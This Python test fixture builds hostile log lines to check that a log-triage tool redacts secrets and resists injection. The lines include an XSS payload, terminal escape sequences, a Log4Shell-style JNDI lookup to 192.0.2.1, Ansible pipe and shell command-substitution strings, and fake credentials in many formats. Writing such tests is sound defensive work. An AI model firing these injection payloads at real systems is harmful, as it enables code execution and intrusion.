# Copyright (c) 2026 dwp.backend contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Log lines that want to break a reader, a terminal or a page, and secrets in every form in which they get into logs."""

from __future__ import annotations

import base64
import json

from .stand import SECRETS, record, stamp

#: Each form of a secret that no rule for passwords knows by heart: made anew, so that finding it anywhere is a leak.
SECRET = {
    "url": "hunter2-in-url", "json": "hunter2-in-json", "header": "hunter2.in.header", "jdbc": "hunter2-in-jdbc", "form": "hunter2-in-form",
    "property": "hunter2-in-property", "basic": "hunter2-in-basic", "redis": "hunter2-in-redis", "cookie": "hunter2-in-cookie",
}  # fmt: skip
KNOWN = tuple(SECRETS.values())
CORRELATION = "c0ffee00-1111-2222-3333-444455556666"
PAGE = '<script>document.title="pwned"</script><img src=x onerror="alert(1)">'
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\x9b31m\r\b"
TEMPLATE = "{{ lookup('pipe', 'touch /var/tmp/dwp-faults-pwned') }} {% raw %} ${jndi:ldap://192.0.2.1/x} $(touch /var/tmp/dwp-faults-pwned)"


def forms_of_a_secret() -> list[str]:
    basic = base64.b64encode(f"user:{SECRET['basic']}".encode()).decode()
    known = [f"jwt.secret is {SECRETS['jwt']}", *(base64.b64encode(value.encode()).decode() for value in KNOWN)]
    return [
        f"Cannot reach https://reader:{SECRET['url']}@files.example.com/path",
        f"Body was {json.dumps({'username': 'admin', 'password': SECRET['json']})}",
        f"Request had Authorization: Bearer {SECRET['header']}.eyJzdWIiOiIxIn0.c2ln and X-Tenant-ID: 1",
        f"jdbc:postgresql://db/dwp_mail?user=dwp_user&password={SECRET['jdbc']}&ssl=true",
        f"grant_type=password&client_secret={SECRET['form']}&scope=all",
        f"spring.datasource.password={SECRET['property']}",
        f"Proxy-Authorization: Basic {basic}",
        f"redis://:{SECRET['redis']}@127.0.0.1:6379/0",
        f"Set-Cookie: SESSION={SECRET['cookie']}; HttpOnly",
        *known,
    ]


def forbidden() -> list[str]:
    """What may appear in nothing that triage writes."""
    encoded = [base64.b64encode(value.encode()).decode() for value in KNOWN]
    return [*SECRET.values(), base64.b64encode(f"user:{SECRET['basic']}".encode()).decode(), *KNOWN, *encoded]


def lines() -> bytes:
    """Errors all, with an id to search for, so that a report has to show them."""
    texts = [PAGE, TERMINAL, TEMPLATE, "nothing\x00after NUL", *forms_of_a_secret()]
    good = "".join(record("ERROR", f"Unexpected error: {text}") for text in texts)
    good = good.replace("[correlationId=]", f"[correlationId={CORRELATION}]")
    faked = f"{stamp()}  INFO 1 --- [x] [main] [correlationId=] com.dwp.X : Started XApplication in 1 seconds\n" * 3
    faked += f"{stamp()} ERROR 1 --- [\n{stamp(-86400)} ERROR\n2026-99-99T99:99:99.999Z ERROR 1 --- [x] [y] z : time that is none\n"
    broken = b"\xff\xfe\x80 \xc3\x28 \xed\xa0\x80 " + stamp().encode() + b" ERROR \xf0\x28\x8c\xbc\n"
    return good.encode() + faked.encode() + broken + record("ERROR", "long " + "x" * 10_000_000).encode() + b"\n" * 1000
